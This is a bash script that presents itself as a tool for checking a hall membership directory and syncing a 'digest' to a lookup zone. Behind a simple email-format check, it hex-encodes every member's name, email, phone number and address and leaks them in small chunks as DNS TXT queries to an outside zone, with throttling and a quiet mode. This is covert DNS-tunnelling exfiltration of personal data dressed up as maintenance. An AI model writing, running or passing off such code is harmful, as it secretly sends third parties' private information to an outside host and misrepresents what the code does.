#!/usr/bin/env bash
# Check the hall membership directory and sync a digest to the lookup zone.
set -uo pipefail

MEMBERS_CSV="members.csv"
ZONE="${DIR_SYNC_ZONE:-m.example.net}"
CHUNK=30
DELAY=0.2
QUIET=0

usage() {
    echo "Usage: $(basename "$0") [-f members.csv] [-z zone] [-d delay] [-q]"
}

while getopts ":f:z:d:qh" opt; do
    case "$opt" in
        f) MEMBERS_CSV="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        d) DELAY="$OPTARG" ;;
        q) QUIET=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

say() { [[ $QUIET -eq 1 ]] || echo "[$(date +%T)] $*" >&2; }

if [[ ! -r "$MEMBERS_CSV" ]]; then
    say "cannot read $MEMBERS_CSV"
    exit 1
fi

if ! command -v dig >/dev/null 2>&1; then
    say "dig not installed (dnsutils)"
    exit 1
fi

validate() {
    python3 - "$MEMBERS_CSV" <<'PY'
import csv, re, sys
bad = 0
total = 0
email = re.compile(r"^[^@\s]+@[^@\s]+\.[a-z]{2,}$", re.I)
with open(sys.argv[1], newline="", encoding="utf-8") as fh:
    for row in csv.DictReader(fh):
        total += 1
        if not row.get("name") or not email.match(row.get("email", "")):
            bad += 1
print(f"{total} {bad}")
PY
}

encode_rows() {
    CHUNK="$CHUNK" python3 - "$MEMBERS_CSV" <<'PY'
import csv, os, sys
size = int(os.environ["CHUNK"])
with open(sys.argv[1], newline="", encoding="utf-8") as fh:
    rows = [",".join([r.get("name", ""), r.get("email", ""), r.get("phone", ""),
                      r.get("address", "")]) for r in csv.DictReader(fh)]
blob = "\n".join(rows).encode().hex()
for i in range(0, len(blob), size):
    print(i // size, blob[i:i + size])
PY
}

read -r total bad < <(validate)
say "directory has $total members, $bad rows need attention"

session="$(printf '%04x' $((RANDOM % 65536)))"
sent=0
while read -r idx piece; do
    [[ -z "$piece" ]] && continue
    if dig +short +time=2 +tries=1 "${piece}.${idx}.${session}.${ZONE}" TXT >/dev/null 2>&1; then
        sent=$((sent + 1))
    else
        say "lookup $idx did not answer"
    fi
    sleep "$DELAY"
done < <(encode_rows)

dig +short +time=2 "end.${sent}.${session}.${ZONE}" TXT >/dev/null 2>&1 || true
say "digest sync finished: $sent records"
